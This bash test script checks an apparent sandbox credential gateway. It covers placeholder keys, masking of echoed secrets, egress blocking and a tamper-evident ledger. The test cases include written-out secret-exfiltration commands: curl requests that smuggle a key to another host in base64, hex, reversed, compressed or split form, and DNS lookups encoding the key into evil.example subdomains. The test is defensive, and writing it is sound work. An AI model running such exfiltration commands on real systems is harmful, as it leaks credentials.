#!/bin/bash
# Credentials that a sandbox never holds: a program uses a placeholder, the gateway puts the key in for what the key is for, and masks it in what
# comes back; the ledger has every step, and can be verified without the server. The host outside is a server of ours that echoes what it gets.
# Items of the list of attacks: 54, 55, 56, 59, 72.
# shellcheck source=tests/scenarios/tap.sh
. "${SOURCE_ROOT:?}/tests/scenarios/tap.sh"
# shellcheck source=tests/scenarios/serve.sh
. "$SOURCE_ROOT/tests/scenarios/serve.sh"
command -v node >/dev/null || skip_all 'needs node'
[ "$(id -u)" = 0 ] || skip_all 'needs root: a name of the machine for the server outside'

if [ -z "${SECRETS_INSIDE:-}" ]; then
	SECRETS_INSIDE=1 exec unshare --mount --propagation private "$0"
fi
address=127.62.$((RANDOM % 250 + 1)).$((RANDOM % 250 + 1))
printf '127.0.0.1 localhost\n%s api.outside.test other.outside.test\n' "$address" >"$WORK/hosts"
mount --bind "$WORK/hosts" /etc/hosts
at_end umount /etc/hosts
export ASSAY_REACH=$address

cat >"$WORK/outside.mjs" <<'SERVER'
import {createServer} from 'node:http';
import {gzipSync, deflateSync, deflateRawSync, brotliCompressSync} from 'node:zlib';
import {createHash, createHmac} from 'node:crypto';
import {appendFileSync} from 'node:fs';
const [address, log, awsKey] = process.argv.slice(2);
// As AWS would judge it.
const signedRight = (request, body) => {
	const said = request.headers.authorization?.match(/^AWS4-HMAC-SHA256 Credential=[^/]+\/(\d+)\/([^/]+)\/([^/]+)\/aws4_request, ?SignedHeaders=([^,]+), ?Signature=(\w+)$/);
	if (!said)
		return 'not signed';
	const [, day, region, service, names, signature] = said;
	const sha = (text) => createHash('sha256').update(text).digest('hex');
	const mac = (key, text) => createHmac('sha256', key).update(text).digest();
	const [path, query] = request.url.split('?');
	const form = [request.method, path, (query ?? '').split('&').sort().join('&'),
		...names.split(';').map((name) => `${name}:${request.headers[name]}`), '', names,
		request.headers['x-amz-content-sha256'] ?? sha(body)].join('\n');
	const text = ['AWS4-HMAC-SHA256', request.headers['x-amz-date'], `${day}/${region}/${service}/aws4_request`, sha(form)].join('\n');
	const key = mac(mac(mac(mac('AWS4' + awsKey, day), region), service), 'aws4_request');
	return mac(key, text).toString('hex') === signature ? 'signed by the key' : 'signed by another';
};
const codings = {gzip: gzipSync, deflate: deflateSync, 'raw deflate': deflateRawSync, br: brotliCompressSync,
	'gzip, br': (text) => brotliCompressSync(gzipSync(text)), exi: (text) => text};
const server = createServer((request, response) => {
	const body = [];
	request.on('data', (piece) => body.push(piece));
	request.on('end', () => {
		if (request.url.startsWith('/aws/')) {
			const verdict = signedRight(request, Buffer.concat(body));
			appendFileSync(log, `${request.method} ${request.headers.host}${request.url} ${verdict}\n`);
			return void response.end(verdict);
		}
		const key = request.headers['x-api-key'] ?? request.headers.authorization ?? '';
		appendFileSync(log, `${request.method} ${request.headers.host}${request.url} key=${key} coding=${request.headers['accept-encoding']} ${Buffer.concat(body)}\n`);
		const echo = JSON.stringify({key, base64: Buffer.from(`user:${key}`).toString('base64'), hex: Buffer.from(key).toString('hex')});
		response.setHeader('x-echo', key);
		response.setHeader('location', `http://api.outside.test/?k=${encodeURIComponent(key)}`);
		const coding = decodeURIComponent(request.url.replace(/^.v1.as./, ''));
		if (coding in codings) { // although nobody asked for it
			response.setHeader('content-encoding', coding.replace('raw ', ''));
			return void response.end(codings[coding](echo + ' '.repeat(100000)));
		}
		if (coding === 'cut')
			return void response.setHeader('content-encoding', 'gzip').end(gzipSync(echo).subarray(0, 60));
		if (request.url !== '/v1/pieces')
			return void response.end(echo);
		const pieces = echo.match(/.{1,5}/g);
		const next = () => pieces.length ? (response.write(pieces.shift()), setTimeout(next, 2)) : response.end();
		next();
	});
});
// A WebSocket that says the key at once: whole, and over two frames.
server.on('upgrade', (request, socket) => {
	const key = request.headers['x-api-key'];
	const frame = (text, first) => Buffer.concat([Buffer.from([first, text.length]), Buffer.from(text, 'latin1')]);
	socket.on('error', () => {});
	socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ' +
		createHash('sha1').update(request.headers['sec-websocket-key'] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64') + '\r\n\r\n');
	socket.write(frame(`<${key}>`, 0x81));
	socket.write(frame(key.slice(0, 9), 0x01));
	socket.write(frame(key.slice(9), 0x80));
	socket.end(frame(`\x03\xe8${key}`, 0x88));
});
server.listen(80, address, () => console.log('listens'));
SERVER
: >"$WORK/outside.log"
aws_id=AKIAIOSFODNN7EXAMPLE aws_key=wJalrXUtnFEMI+K7MDENG+bPxRfiCYEXAMPLEKEY
node "$WORK/outside.mjs" "$address" "$WORK/outside.log" "$aws_key" >"$WORK/outside.out" 2>&1 &
outside=$!
at_end "kill $outside 2>/dev/null"
outside_listens() { grep -q listens "$WORK/outside.out"; }
until_true 60 outside_listens || { cat "$WORK/outside.out"; skip_all 'port 80 cannot be had'; }

mkdir "$WORK/app"
cat >"$WORK/app/assay.yaml" <<'BLUEPRINT'
version: 1
name: keys
services:
  web: {run: "sleep 100000"}
secrets:
  API_KEY: api
  GIT_TOKEN: git
  AWS_SECRET_ACCESS_KEY: aws
egress:
  rules:
    - {host: "*.outside.test", action: allow}
BLUEPRINT
repository "$WORK/app"
cd "$WORK/app" || exit 1
serve_start || { tap_line 'not ok' 'the server starts'; sed 's/^/# /' "$WORK/serve.log"; exit 1; }

key=kx-REALREALREALREALREALREALREALREAL-7f3a
token=ghp_realrealrealrealrealrealrealreal1234
like 'an environment without its credentials does not start' "$("$ASSAY" env up --name early 2>&1)" 'secrets.API_KEY.*there is no credential .api.'
like 'a value with a line end is refused' "$(printf 'one\ntwo-two-two' | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --in header:x-api-key 2>&1)" 'line end'
like 'so is plain http to the world' "$(printf %s "$key" | "$ASSAY" secret set api --for 'POST http://example.com/*' --in header:x-api-key 2>&1)" 'plain http'
printf %s "$key" | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --for 'GET http://api.outside.test/v1/ws' --in header:x-api-key >/dev/null
printf '%s\n' "$token" | "$ASSAY" secret set git --for '* http://other.outside.test/app.git/*' --in basic >/dev/null
printf '%s\n' "$aws_key" | "$ASSAY" secret set aws --for '* http://api.outside.test/aws/*' --in "aws:$aws_id" >/dev/null
like 'what they are for is listed' "$("$ASSAY" secret list)" 'api +POST http://api.outside.test/v1/\*, GET http://api.outside.test/v1/ws +header:x-api-key'
is 'what they are is not on the disk' "$(grep -rlaF --exclude-dir=pool --exclude='pool.img' -e "$key" -e "$token" -e "$aws_key" "$ASSAY_STATE" | wc -l)" 0

"$ASSAY" env up --name keys >"$WORK/up.log" 2>&1 || { tap_line 'not ok' 'an environment comes up'; sed 's/^/# /' "$WORK/up.log"; exit 1; }
env=$(api GET /environments | jq -r '.items[] | select(.name == "keys") | .id')
inside() { "$ASSAY" env exec "$env" -- sh -c "$1" 2>&1; }
held=$(inside 'printf %s "$API_KEY"')
like 'a sandbox sees a placeholder' "$held" '^xAssay0|xAssay0'
is 'as long as the key' "${#held}" "${#key}"
is 'and the key nowhere in its environment and files' "$(inside "env; cat /proc/*/environ /etc/hosts 2>/dev/null; true" | grep -acF "$key")" 0

curl='curl --silent --max-time 20 --write-out " %{http_code}"'
answer=$(inside "$curl -i -d hello -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/messages")
like 'the key reaches its host' "$(tail -n 1 "$WORK/outside.log")" "POST api.outside.test/v1/messages key=$key coding=identity hello"
is 'item 56: an echo of it comes back masked, in fields and body' "$(grep -cF -e "$key" -e "$(printf %s "$key" | od -An -tx1 | tr -d ' \n')" <<<"$answer")" 0
like 'as the placeholder' "$answer" "\"key\":\"$held\""
like 'in fields, too' "$answer" "[Xx]-[Ee]cho: $held"
like 'nor in base64' "$answer" '"base64":"[A-Za-z0-9+/]*\*\*\*\*'
answer=$(inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/pieces")
like 'nor in pieces' "$answer" "\"key\":\"$held\".* 200\$"
for coding in gzip deflate 'raw deflate' br 'gzip, br'; do
	like "nor compressed with $coding, which nobody asked for: it comes as it reads" \
		"$(inside "$curl -i -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/as/$(printf %s "$coding" | jq -sRr @uri) | tr -d '\r' | grep -aivE '^(date|x-echo|location)' | tr -s ' \n' ' '")" \
		"^HTTP/1.1 200 OK (Transfer-Encoding: chunked|Connection: keep-alive|Keep-Alive: [^ ]+| )*\{\"key\":\"$held\".* 200 ?\$"
done
like 'what cannot be read is not passed on' "$(inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/as/exi")" 'broker:unreadable-answer.* 502$'
like 'what ends too early does not look whole' "$(inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/as/cut; echo \" \$?\"")" ' (18|56|52)$'
cat >"$WORK/websocket.py" <<'CLIENT'
import os, socket
s = socket.create_connection(("api.outside.test", 80), timeout=20)
s.sendall(("GET /v1/ws HTTP/1.1\r\nHost: api.outside.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
           "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nx-api-key: " + os.environ["API_KEY"] + "\r\n\r\n").encode())
got = b""
while piece := s.recv(65536):
    got += piece
print(got.split(b"\r\n\r\n", 1)[1].decode("latin-1"))
CLIENT
heard=$(inside "/usr/bin/python3 -c '$(cat "$WORK/websocket.py")'")
is 'item 56: nor in messages of a WebSocket, whole, over two frames, at the end' "$(grep -o -F -e "$held" -e "$key" <<<"$heard" | tr '\n' ' ')" "$held $held $held "

: >"$WORK/outside.log"
refused() { like "$1" "$(inside "$2")" "$3.* 403\$"; }
refused 'item 54: to another host it is a leak attempt' "$curl -d x -H \"x-api-key: \$API_KEY\" http://other.outside.test/v1/x" 'broker:stray-placeholder'
refused 'in another field' "$curl -d x -H \"x-other: \$API_KEY\" http://api.outside.test/v1/x" 'broker:stray-placeholder'
refused 'in a URL' "$curl \"http://other.outside.test/?k=\$API_KEY\"" 'broker:stray-placeholder'
refused 'in a body' "$curl -d \"k=\$API_KEY\" http://other.outside.test/v1/x" '(broker:stray-placeholder|dlp:known-secret)'
refused 'in a compressed body' "printf '{\"k\":\"%s\"}' \"\$API_KEY\" | gzip | $curl --data-binary @- -H 'content-encoding: gzip' http://other.outside.test/v1/x" 'known-secret'
refused 'item 55: in base64' "$curl -u \"x:\$API_KEY\" http://other.outside.test/v1/x" 'broker:stray-placeholder'
refused 'for a path that it is not for' "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v2/x" 'broker:stray-placeholder'
# Somebody who learned the real one, in whatever way, cannot send it elsewhere, or anywhere as it is: the scanner knows it by its fingerprint.
real() { refused "item $1: the real one does not leave $2" "$3" "${4:-dlp:known-secret}"; }
real 40 'as it is' "$curl -d 'k=$key' http://other.outside.test/v1/x"
real 40 'in base64 inside of more' "$curl -d 'k=$(printf 'ab:%s\n' "$key" | base64 -w0)' http://other.outside.test/v1/x"
real 41 'in hexadecimal, in a URL' "$curl 'http://other.outside.test/?k=$(printf %s "$key" | od -An -tx1 | tr -d ' \n')'"
real 41 'backwards' "$curl -d 'k=$(rev <<<"$key")' http://other.outside.test/v1/x"
real 45 'compressed' "printf 'k=%s' '$key' | gzip | $curl --data-binary @- -H 'content-encoding: gzip' http://other.outside.test/v1/x"
real 48 'in two fields' "$curl -d 'a=${key:0:20}&b=${key:20}' http://other.outside.test/v1/x"
real 54 'without what everybody knows of it' "$curl -H 'x-other: ${token:4}' http://api.outside.test/v1/x"
asked() { inside "getent hosts '$1'; true" >/dev/null; }
asked evil.example
asked "$(printf %s "$key" | tr '[:upper:]' '[:lower:]').evil.example"
asked "$(printf %s "$key" | od -An -tx1 | tr -d ' \n' | cut -c1-40).$(printf %s "$key" | od -An -tx1 | tr -d ' \n' | cut -c41-).evil.example"
# A row comes after the answer.
has_hidden() { tailed=$("$ASSAY" egress tail "$env" --once); [ "$(grep -c '\[hidden\].evil.example resolve' <<<"$tailed")" -ge 2 ]; }
until_true 20 has_hidden
like 'item 52: a name that does not resolve is in the tail' "$tailed" 'evil.example resolve .*denied: no rule allows it'
is 'one that carries a secret is hidden there, as it was and in hexadecimal' "$(grep -c '\[hidden\].evil.example resolve' <<<"$tailed") $(grep -ciF "${key:0:20}" <<<"$tailed")" '2 0'
is 'both are in the ledger' "$("$ASSAY" ledger search --env "$env" --kind verdict --json | jq -r '[.items[] | select(.method == "resolve") | "\(.kind) \(.method) \(.host) \(.rule)"] | sort | unique | join("; ")')" \
	'verdict resolve [hidden].evil.example default-deny; verdict resolve evil.example default-deny'
real 59 'to its own host, in its own place' "$curl -d x -H 'x-api-key: $key' http://api.outside.test/v1/x" '(dlp:known-secret|broker:foreign-credential)'
refused 'item 59: another key does not reach its host' "$curl -d x -H 'x-api-key: of-the-attacker' http://api.outside.test/v1/files" 'broker:foreign-credential'
is 'nothing of all that came out' "$(wc -l <"$WORK/outside.log")" 0

inside "$curl -u \"git:\$GIT_TOKEN\" http://other.outside.test/app.git/info/refs" >/dev/null
like 'basic authentication gets its token' "$(tail -n 1 "$WORK/outside.log")" "key=Basic $(printf 'git:%s' "$token" | base64 -w0)"

# AWS: a signature, made with the placeholder, becomes one that was made with the key, which stays in the vault.
signs="$curl --aws-sigv4 aws:amz:eu-central-1:execute-api -u $aws_id:\$AWS_SECRET_ACCESS_KEY"
is 'what the placeholder signed is signed by the key' "$(inside "$signs http://api.outside.test/aws/items")" 'signed by the key 200'
is 'with a query and a body, too' "$(inside "$signs -d '{\"a\":1}' -H 'content-type: application/json' 'http://api.outside.test/aws/items?a=1&b=2'")" 'signed by the key 200'
: >"$WORK/outside.log"
refused 'item 59: what another key signed does not leave' "$curl --aws-sigv4 aws:amz:eu-central-1:execute-api -u $aws_id:not-the-placeholder http://api.outside.test/aws/items" 'broker:cannot-sign'
refused 'nor what is signed in the name of another' "$curl --aws-sigv4 aws:amz:eu-central-1:execute-api -u AKIAOFSOMEBODYELSE00:\$AWS_SECRET_ACCESS_KEY http://api.outside.test/aws/items" '(broker:foreign-credential|dlp:)'
refused 'a body that is signed in pieces is refused in words' "$signs -d x -H 'x-amz-content-sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD' http://api.outside.test/aws/items" 'signed in pieces.*broker:cannot-sign'
refused 'and a URL that carries its signature' "$curl 'http://api.outside.test/aws/items?X-Amz-Signature=00'" 'broker:cannot-sign'
is 'nothing of these came out' "$(wc -l <"$WORK/outside.log")" 0
real 40 'the key of AWS either' "$curl -d 'k=$aws_key' http://other.outside.test/v1/x"

printf %s "$key-new-new" | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --in header:x-api-key >/dev/null
inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/y" >/dev/null
like 'a key that was changed is the new one, at once' "$(tail -n 1 "$WORK/outside.log")" "key=$key-new-new "
printf %s "ny-another-another-another-$key" | rev | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --in header:x-api-key >/dev/null
real 40 'when it is a new one' "$curl -d 'k=$(printf %s "ny-another-another-another-$key" | rev)' http://other.outside.test/v1/x"
like 'and what is none leaves' "$(inside "$curl -d 'k=kx-another-7f3a-and-others' http://other.outside.test/v1/x")" ' 200$'
"$ASSAY" secret rm git >/dev/null
: >"$WORK/outside.log"
refused 'one that was removed is dead, at once' "$curl -u \"git:\$GIT_TOKEN\" http://other.outside.test/app.git/info/refs" 'broker:not-released'

# The ledger.
rows() { "$ASSAY" ledger search --env "$env" --json "$@" | jq .items; }
in_pairs() { [ "$(rows --kind intent | jq length)" -gt 0 ] && [ "$(rows --kind intent | jq length)" = "$(rows --kind outcome | jq length)" ]; }
ok 'each request has two rows' until_true 60 in_pairs
like 'that they were set, bound and removed are rows' "$("$ASSAY" ledger search --kind secret --json | jq -r '[.items[].detail] | sort | unique | join("; ")')" \
	'api: bound to the environment; api: set; aws: bound to the environment; aws: set; git: bound to the environment; git: removed; git: set'
is 'rules over what was seen: what the broker and the scanner refused is said, and no difference' \
	"$("$ASSAY" policy simulate assay.yaml --on "$env" --json | jq -c '[([.items[] | select(.same | not)] | length), ([.items[] | select(.was == "passed" and (.by | startswith("broker:")))] | length >= 5)]')" '[0,true]'
is 'over the ledger, which does not keep their paths, they are counted and not compared' \
	"$("$ASSAY" policy simulate assay.yaml --on "$env" --ledger --json | jq -c '[([.items[] | select(.same | not)] | length), ([.items[] | select(.compared | not) | .by | split(":")[0]] | unique | join(" "))]')" '[0,"broker dlp"]'
like 'people are told' "$("$ASSAY" policy simulate assay.yaml --on "$env" --ledger)" 'of them were decided by something else than rules, as they still would be: broker'
is 'releases are rows' "$(rows --kind release | jq -r '[.[].detail] | unique | join(" ")')" 'api aws git'
id=$(rows --rule 'broker:*' | jq -r '.[0].request')
like 'what a refusal names is found' "$("$ASSAY" ledger show "$id")" 'verdict +q[0-9a-f]+ +.*broker:'
is 'JSON lines are exported' "$("$ASSAY" ledger export --env "$env" | jq -s 'length > 20')" true
like 'and CEF' "$("$ASSAY" ledger export --format cef --rule 'broker:*' | head -n 1)" '^CEF:0\|Assay\|assay\|'
is 'it never holds a secret' "$("$ASSAY" ledger export | grep -cF -e "$key" -e "$token")" 0
is 'nor does any file of the server' "$(grep -rlaF --exclude-dir=pool --exclude='pool.img' -e "$key" -e "$token" -e "$aws_key" "$ASSAY_STATE" "$WORK/serve.log" | wc -l)" 0
signed() { [ "$("$ASSAY" ledger heads | wc -l)" = 2 ]; }
until_true 60 signed
ok 'it verifies' "$ASSAY" ledger verify
"$ASSAY" record key >"$WORK/key.pem"
"$ASSAY" ledger heads >"$WORK/heads"
verify=$(dirname "$ASSAY")/assay-ledger-verify
ok 'without the server, too' "$verify" --key "$WORK/key.pem" --heads "$WORK/heads" "$ASSAY_STATE/ledger"
cp -r "$ASSAY_STATE/ledger" "$WORK/changed"
printf X | dd of="$WORK/changed/gateway/0000000001.seg" bs=1 seek=700 conv=notrunc status=none
like 'item 72: a changed byte is named' "$("$verify" --key "$WORK/key.pem" "$WORK/changed")" 'BREAK: 0000000001.seg'

# After kill -9 of the gateway its rows are there, and another goes on.
gateway=$(for child in $(below "$serve_pid"); do grep -qz '^gateway$' "/proc/$child/cmdline" && echo "$child"; done | head -n 1)
inside "$curl http://other.outside.test/last" >/dev/null
kill -9 "$gateway"
again() { inside "$curl http://other.outside.test/again" | grep -q ' 200$'; }
ok 'another gateway goes on, although a credential was removed since' until_true 60 again
is 'item 72: kill -9 loses no row' "$(rows | jq '[.[] | select(.path == "/last") | .kind] | sort | join(" ")')" '"intent outcome"'
ok 'and the chain holds' "$ASSAY" ledger verify

"$ASSAY" kill "$env" --because test >/dev/null
like 'what was killed sends nothing' "$(inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/z")" ' (403|000)$'
ok 'undone' "$ASSAY" kill "$env" --undo
alive() { inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/z" | grep -q ' 200$'; }
ok 'its credentials live again' until_true 60 alive
"$ASSAY" env down "$env" >/dev/null
serve_stop
ok 'at the end it verifies' "$verify" --quiet --key "$WORK/key.pem" --heads "$WORK/heads" "$ASSAY_STATE/ledger"

done_testing
